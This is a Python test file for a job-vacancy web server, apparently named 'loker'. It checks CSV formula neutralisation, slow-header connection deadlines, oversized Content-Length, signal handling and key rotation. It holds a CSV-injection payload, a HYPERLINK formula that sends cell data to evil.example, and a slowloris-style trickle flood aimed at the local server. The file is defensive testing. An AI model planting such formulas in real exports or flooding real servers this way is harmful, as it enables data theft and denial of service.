"""test_hardening.py - issue 13 outside the handlers: CSV exports that do
not run formulas, the key check value and key rotation, connection limits
and deadlines that trickling does not extend, and a graceful life (SIGTERM,
SIGHUP, absurd Content-Length, --help on every command)."""

import csv
import selectors
import socket
import threading
import datetime
import io
import os
import re
import signal
import sqlite3
import subprocess
import time
import unittest

import harness
from harness import Api, LokerTestCase, vacancy_body

WIB = harness.WIB
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def plain_number(s):
	try:
		float(s)
	except ValueError:
		return False
	return all(c in "+-.0123456789" for c in s)


class ExportsTest(LokerTestCase):
	"""A vacancy titled like a formula comes out neutralised (a leading
	single quote) in the Perpres CSV and in the dashboard CSV that lists
	vacancy titles; no cell of either starts a formula."""
	with_admin = True

	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.admin_b = harness.logged_in(cls.server, cls.admin["phone"], cls.admin["password"])
		admin_api = harness.admin_api(cls.server, cls.admin)
		_, company, _ = harness.company_employer(cls.server, admin_api)
		emp = Api(cls.server)
		emp.login(company["phone"])
		r = emp.post("/api/v1/vacancies", vacancy_body(title=HOSTILE, submit=True))
		assert r.status == 201, r
		v = r.json()["vacancy"]
		if v["status"] != "published":
			m = admin_api.post("/api/v1/admin/vacancies/%s/moderation" % v["id"], {"decision": "approve"})
			assert m.status == 200, m
		cls.vid = v["id"]
		# Published ten days ago without an applicant: the dashboard lists it
		# among "Lowongan tanpa pelamar setelah 7 hari" (title as the label).
		con = sqlite3.connect(cls.server.db)
		con.execute("UPDATE vacancies SET published_at = published_at - 10 * 86400 WHERE id = ?", (cls.vid,))
		con.commit()
		con.close()

	def assertNoFormula(self, rows, what):
		for i, row in enumerate(rows):
			for cell in row:
				if cell.startswith(FORMULA_START) and not plain_number(cell):
					self.fail("%s row %d: cell %r starts a formula" % (what, i, cell))

	def test_perpres_csv(self):
		today = datetime.datetime.now(WIB).date()
		q = "dari=%s&sampai=%s" % ((today - datetime.timedelta(days=30)).isoformat(), today.isoformat())
		r = self.admin_b.get("/dinas/laporan/perpres?%s&format=csv" % q)
		self.assertStatus(r, 200, "Perpres CSV")
		rows = list(csv.reader(io.StringIO(r.text)))
		self.assertNoFormula(rows, "Perpres CSV")
		self.assertIn("'" + HOSTILE, [c for row in rows for c in row], "the title, behind a quote")

	def test_dashboard_csv(self):
		r = self.admin_b.get("/dinas/statistik/gaps-unmatched.csv")
		self.assertStatus(r, 200, "dashboard CSV")
		rows = list(csv.reader(io.StringIO(r.text)))
		self.assertNoFormula(rows, "gaps-unmatched.csv")
		self.assertIn("'" + HOSTILE, [c for row in rows for c in row], "the title, behind a quote")


def healthz_ms(server, timeout=1.0):
	"""GET /healthz on a fresh connection: milliseconds, or None when no
	200 came within timeout."""
	t0 = time.monotonic()
	try:
		s = socket.create_connection(("127.0.0.1", server.port), timeout=timeout)
		try:
			s.settimeout(max(0.05, timeout - (time.monotonic() - t0)))
			s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
			data = b""
			while b"\r\n" not in data:
				chunk = s.recv(4096)
				if not chunk:
					break
				data += chunk
		finally:
			s.close()
	except OSError:
		return None
	if not data.startswith(b"HTTP/1.1 200"):
		return None
	ms = (time.monotonic() - t0) * 1000
	return ms if ms <= timeout * 1000 else None


class TrickleTest(LokerTestCase):
	"""Issue 13, finding 5, scaled down: 1,100 connections from one address
	(above the 1,020 libmicrohttpd allows by default, and twice the server's
	default limit of 512) trickle a header byte every half second and
	reconnect when cut. /healthz answers within a second throughout, and a
	trickling connection is cut at its header deadline although every byte
	arrives well within the 30 s idle timeout."""
	TRICKLERS = int(os.environ.get("LOKER_TRICKLERS", "1100"))
	server_env = {"LOKER_PER_IP_CONNECTIONS": "5000", "LOKER_HEADER_TIMEOUT": "3"}

	def test_healthz_answers_during_a_trickle(self):
		stop = threading.Event()
		lifetimes = []
		opened = [0]

		def trickler():
			socks = {}
			sel = selectors.DefaultSelector()
			head = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
			next_byte = 0.0
			try:
				while not stop.is_set():
					now = time.monotonic()
					# Keep TRICKLERS connections open.
					while len(socks) < self.TRICKLERS and not stop.is_set():
						try:
							s = socket.create_connection(("127.0.0.1", self.server.port), timeout=2)
						except OSError:
							break
						s.setblocking(False)
						socks[s] = [time.monotonic(), 0]
						sel.register(s, selectors.EVENT_READ)
						opened[0] += 1
					if now >= next_byte:
						next_byte = now + 0.5
						for s, st in list(socks.items()):
							try:
								s.send(head[st[1] % len(head):st[1] % len(head) + 1])
								st[1] += 1
							except OSError:
								pass
					for key, _ in sel.select(timeout=0.05):
						s = key.fileobj
						try:
							data = s.recv(4096)
						except OSError:
							data = b""
						if not data:
							lifetimes.append(time.monotonic() - socks[s][0])
							sel.unregister(s)
							s.close()
							del socks[s]
			finally:
				for s in socks:
					s.close()

		t = threading.Thread(target=trickler, daemon=True)
		t.start()
		slow = []
		probes = 0
		t_end = time.monotonic() + 10
		try:
			while time.monotonic() < t_end:
				ms = healthz_ms(self.server, 1.0)
				probes += 1
				if ms is None:
					slow.append(round(t_end - time.monotonic(), 1))
				time.sleep(0.2)
		finally:
			stop.set()
			t.join(10)
		self.assertEqual(slow, [], "/healthz gave no 200 within 1 s in %d of %d probes" % (len(slow), probes))
		self.assertGreater(opened[0], self.TRICKLERS, "the tricklers were cut and came back")
		# Connections that were not evicted lived to the 3 s header deadline,
		# never to the 30 s idle timeout.
		self.assertTrue(lifetimes, "some trickling connection was cut")
		self.assertLess(max(lifetimes), 6.0, "a trickling connection outlived its header deadline")
		self.assertStatus(Api(self.server).get("/healthz"), 200, "after the trickle")


class HeaderDeadlineTest(LokerTestCase):
	"""One connection trickling its headers is cut at the header deadline,
	not kept alive by each byte (the idle timeout is 30 s)."""
	server_env = {"LOKER_HEADER_TIMEOUT": "2"}

	def test_trickled_headers_are_cut(self):
		s = socket.create_connection(("127.0.0.1", self.server.port), timeout=1)
		t0 = time.monotonic()
		closed_after = None
		try:
			s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
			while time.monotonic() - t0 < 10:
				try:
					s.sendall(b"X")
				except OSError:
					closed_after = time.monotonic() - t0
					break
				try:
					if s.recv(4096) == b"":
						closed_after = time.monotonic() - t0
						break
				except socket.timeout:
					pass
				except OSError:
					closed_after = time.monotonic() - t0
					break
		finally:
			s.close()
		self.assertIsNotNone(closed_after, "still open after 10 s of trickling")
		self.assertLess(closed_after, 4.5)
		self.assertGreater(closed_after, 1.5)


class OddInputTest(LokerTestCase):
	"""An absurd Content-Length is answered 413 at once; a session that
	cannot be written at web login is an error the person sees."""
	with_admin = True

	def test_absurd_content_length(self):
		for cl in ("18446744073709551615", "18446744073709551616", "99999999999999999999999"):
			for path in ("/api/v1/seekers", "/masuk"):
				t0 = time.monotonic()
				status, _, _ = harness.raw_request(
					self.server, ("POST %s HTTP/1.1\r\nHost: x\r\nContent-Length: %s\r\n"
					              "Content-Type: application/json\r\n\r\n" % (path, cl)).encode(), b"", early_wait=3.0)
				self.assertEqual(status, 413, "%s with Content-Length %s" % (path, cl))
				self.assertLess(time.monotonic() - t0, 3.0, "answered at once")

	def test_failed_session_write_is_shown(self):
		b = harness.Browser(self.server)
		con = sqlite3.connect(self.server.db)
		con.execute("CREATE TRIGGER test_no_sessions BEFORE INSERT ON sessions "
		            "BEGIN SELECT RAISE(FAIL, 'disk full'); END")
		con.commit()
		try:
			r = b.login(self.admin["phone"], self.admin["password"])
		finally:
			con.execute("DROP TRIGGER test_no_sessions")
			con.commit()
			con.close()
		self.assertStatus(r, 503, "login while sessions cannot be written")
		self.assertIn("Sesi tidak dapat dibuat, coba lagi", r.visible)
		r = b.login(self.admin["phone"], self.admin["password"])
		self.assertRedirect(r, "/dasbor", "login once sessions can be written again")


class HelpTest(unittest.TestCase):
	"""`loker CMD --help` and `loker CMD -h` print help and do nothing else,
	for every command `loker help` lists (and a subcommand form)."""

	def test_every_command(self):
		s = harness.Server()
		r = s.cli("help")
		self.assertEqual(r.returncode, 0)
		names = re.findall(r"(?m)^  loker (\S+)", r.stdout)
		self.assertGreaterEqual(len(names), 10, r.stdout)
		self.assertIn("demo", names)
		for name in names:
			for flag in ("--help", "-h"):
				for args in ([name, flag], [name, "--db", s.db, flag]):
					r = s.cli(*args)
					what = "loker %s" % " ".join(args)
					self.assertEqual(r.returncode, 0, "%s: %s" % (what, r.stderr))
					self.assertRegex(r.stdout, r"(?i)(pakai|pemakaian): loker %s\b" % name, what)
					self.assertEqual(os.listdir(s.tmp), [], "%s made files: %s" % (what, os.listdir(s.tmp)))
		for args in (["admin", "add", "--name", "X", "--phone", "081234", "--help"],
		             ["export", "ipk", "--month", "2026-01", "--format", "csv", "--out", s.db, "-h"]):
			r = s.cli(*args)
			self.assertEqual(r.returncode, 0, args)
			self.assertEqual(os.listdir(s.tmp), [], args)


class ShutdownTest(unittest.TestCase):
	"""SIGTERM in the middle of a burst of registrations (the form's step,
	which hashes the password and commits the waiting registration and the
	code's message): the server exits 0, every client that got 202 has its
	code in the outbox, and every code in the outbox got its 202 (no
	committed request lost its answer)."""

	def test_sigterm_answers_what_it_commits(self):
		s = harness.start_server()
		seekers = [harness.new_seeker() for _ in range(24)]
		results = {}

		def register(i):
			try:
				r = Api(s).post("/api/v1/seekers", harness.seeker_api_body(seekers[i]))
				results[i] = r.status
			except Exception as e:   # a dropped connection
				results[i] = repr(e)

		threads = [threading.Thread(target=register, args=(i,)) for i in range(len(seekers))]
		for t in threads:
			t.start()
		time.sleep(0.5)
		proc = s.proc
		proc.send_signal(signal.SIGTERM)
		for t in threads:
			t.join(60)
		rc = proc.wait(30)
		s.stop()
		self.assertEqual(rc, 0, s.log_tail())
		con = sqlite3.connect("file:%s?mode=ro" % s.db, uri=True)
		stored = {row[0] for row in con.execute("SELECT recipient FROM outbox")}
		con.close()
		answered = [i for i, st in results.items() if st == 202]
		lost = [i for i in range(len(seekers))
		        if harness.normalize_phone(seekers[i]["phone"]) in stored and results.get(i) != 202]
		phantom = [i for i in answered if harness.normalize_phone(seekers[i]["phone"]) not in stored]
		self.assertEqual(lost, [], "saved but not answered: %r" % {i: results.get(i) for i in lost})
		self.assertEqual(phantom, [], "answered 202 but not saved")
		self.assertGreater(len(answered), 0, "some registration finished: %r" % results)
		for i, st in results.items():
			self.assertIn(st, (202, 503) if isinstance(st, int) else (st,), "client %d" % i)
		self.assertIn("http: stopping", s.log())


class LogReopenTest(unittest.TestCase):
	"""--log FILE writes the log there; SIGHUP after the file was moved
	(logrotate) opens a new file under the same name."""

	def test_sighup_reopens(self):
		s = harness.Server()
		log = os.path.join(s.tmp, "loker.log")
		s.env["LOKER_LOG"] = log
		s.start()
		Api(s).get("/healthz")
		time.sleep(0.3)
		with open(log) as f:
			self.assertIn("/healthz", f.read())
		os.rename(log, log + ".1")
		s.proc.send_signal(signal.SIGHUP)
		deadline = time.monotonic() + 5
		while not os.path.exists(log) and time.monotonic() < deadline:
			time.sleep(0.05)
		self.assertTrue(os.path.exists(log), "a new log file after SIGHUP")
		Api(s).get("/healthz?after")
		time.sleep(0.3)
		s.stop()
		with open(log) as f:
			text = f.read()
		self.assertIn("log reopened", text)
		self.assertIn("/healthz", text)
		self.assertIn("http: stopping", text)
		self.assertEqual(s.proc, None)


class KeyTest(unittest.TestCase):
	"""The database keeps a check value of the key: another key file is
	refused at start with a clear message; a database from before the check
	value gets it on the first start with the right key (and refuses a wrong
	one); `loker key rotate` re-seals every NIK under a new key."""

	def start_fails(self, s, key):
		env = dict(s.env, LOKER_KEY_FILE=key)
		p = subprocess.run([harness.loker_bin(), "serve", "--db", s.db, "--port", str(harness.free_port())],
		                   env=env, cwd=harness.ROOT, capture_output=True, text=True, timeout=30)
		self.assertNotEqual(p.returncode, 0, "the server started with the wrong key")
		return p.stderr

	def other_key(self, s, name):
		path = os.path.join(s.tmp, name)
		with open(path, "wb") as f:
			f.write(os.urandom(32))
		os.chmod(path, 0o600)
		return path

	def register(self, s):
		seeker = harness.new_seeker()
		r = Api(s).register_seeker(harness.seeker_api_body(seeker))
		self.assertEqual(r.status, 201, r)
		return seeker

	def test_wrong_key_refused_and_rotation(self):
		s = harness.start_server()
		seeker = self.register(s)
		s.stop()
		wrong = self.other_key(s, "wrong.key")
		err = self.start_fails(s, wrong)
		self.assertIn("bukan kunci basis data", err)
		self.assertIn("tidak cocok", err)

		# A database from before the check value: the wrong key still refused
		# (a sealed NIK does not open), the right one writes the value.
		con = sqlite3.connect(s.db)
		con.execute("DELETE FROM key_check")
		con.commit()
		con.close()
		err = self.start_fails(s, wrong)
		self.assertIn("tidak dapat membuka NIK", err)
		s.start()
		s.stop()
		con = sqlite3.connect(s.db)
		self.assertEqual(con.execute("SELECT count(*) FROM key_check").fetchone()[0], 1)
		con.close()
		self.assertIn("tidak cocok", self.start_fails(s, wrong))

		# Rotation to a new file (created by the command).
		new = os.path.join(s.tmp, "new.key")
		con = sqlite3.connect(s.db)
		before = dict(con.execute("SELECT user_id, nik_index FROM seekers").fetchall())
		con.close()
		r = s.cli("key", "rotate", "--db", s.db, "--new-key-file", new)
		self.assertEqual(r.returncode, 0, r.stderr)
		self.assertIn("1 NIK", r.stdout)
		self.assertEqual(os.stat(new).st_mode & 0o077, 0)
		con = sqlite3.connect(s.db)
		after = dict(con.execute("SELECT user_id, nik_index FROM seekers").fetchall())
		con.close()
		self.assertEqual(set(after), set(before))
		self.assertTrue(all(after[k] != before[k] for k in after), "every blind index recomputed")
		self.assertIn("tidak cocok", self.start_fails(s, s.key))   # the old key no longer
		s.env["LOKER_KEY_FILE"] = new
		s.start()
		try:
			b = harness.logged_in(s, seeker["phone"])
			d = b.get("/pencari/data")
			self.assertEqual(d.status, 200, "the data download opens the re-sealed NIK")
			self.assertIn(seeker["nik"], d.text)
			again = dict(harness.new_seeker(), nik=seeker["nik"])
			r = Api(s).register_seeker(harness.seeker_api_body(again))
			self.assertEqual(r.status, 409, "the same NIK is still known: %r" % r)
		finally:
			s.stop()
		# A rotation that fails changes nothing: the current key must be right.
		r = s.cli("key", "rotate", "--db", s.db, "--new-key-file", os.path.join(s.tmp, "third.key"))
		self.assertEqual(r.returncode, 0, r.stderr)
		s.env["LOKER_KEY_FILE"] = wrong
		r = s.cli("key", "rotate", "--db", s.db, "--new-key-file", os.path.join(s.tmp, "fourth.key"))
		self.assertNotEqual(r.returncode, 0)
		self.assertIn("tidak cocok", r.stderr)


class RotateUnderServerTest(unittest.TestCase):
	"""`loker key rotate` while the server runs (against the docs): the
	server notices the new check value and stops instead of sealing more
	NIKs under the key the database left."""

	def test_server_stops(self):
		s = harness.start_server()
		r = Api(s).register_seeker(harness.seeker_api_body(harness.new_seeker()))
		self.assertEqual(r.status, 201, r)
		r = s.cli("key", "rotate", "--db", s.db, "--new-key-file", os.path.join(s.tmp, "new.key"))
		self.assertEqual(r.returncode, 0, r.stderr)
		rc = s.proc.wait(10)
		self.assertEqual(rc, 0)
		s.stop()
		self.assertIn("key check value changed", s.log())
